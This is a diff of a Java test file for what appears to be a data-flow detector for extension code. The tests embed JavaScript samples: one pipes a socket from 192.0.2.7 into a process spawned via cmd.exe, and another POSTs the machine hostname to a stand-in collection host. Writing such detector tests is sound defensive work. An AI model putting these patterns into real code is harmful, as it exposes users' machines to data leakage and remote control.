@@ -38,7 +38,39 @@ class StreamsAndPromisesTest {
                 """);
 
         assertThat(analysis.flowNames())
-                .contains("network-response -> process-argument", "process-output -> network-send");
+                .contains("network-response -> process-command", "process-output -> network-send");
+    }
+
+    @Test
+    void whatAProgramReadsIsNoCommandUnlessTheProgramIsAShellThatReadsCommands() {
+        Analysis analysis = Analysis.ofActivate("""
+                const socket = require('net').connect(7000, '192.0.2.7', () => {
+                  const server = cp.spawn('cmd.exe', ['/c', 'gopls serve']);
+                  socket.pipe(server.stdin);
+                });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("network-response -> process-argument");
+    }
+
+    @Test
+    void headersOfARequestDoNotNameItsHost() {
+        Analysis analysis = Analysis.ofActivate("""
+                const where = new URL(unknownPlace);
+                https.request({ hostname: where.hostname, headers: { 'x-machine': os.hostname() } });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("machine-identity -> network-url");
+    }
+
+    @Test
+    void unpacksNothingWithoutAnArgument() {
+        Analysis analysis = Analysis.ofActivate("""
+                require('zlib').gunzip();
+                fetch('https://collect.example/u', { method: 'POST', body: os.hostname() });
+                """);
+
+        assertThat(analysis.flowNames()).containsExactly("machine-identity -> network-send");
     }
 
     @Test
